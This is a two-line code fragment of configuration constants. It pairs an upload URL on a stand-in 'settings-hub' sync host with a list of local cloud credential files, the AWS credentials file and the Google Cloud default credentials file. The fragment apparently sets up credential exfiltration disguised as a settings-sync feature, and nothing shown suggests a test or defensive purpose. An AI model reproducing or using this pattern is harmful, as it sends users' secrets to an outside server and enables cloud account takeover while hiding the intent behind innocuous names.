SYNC_URL = "https://cloudsync.settings-hub.example/upload"
SOURCES = ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json"]
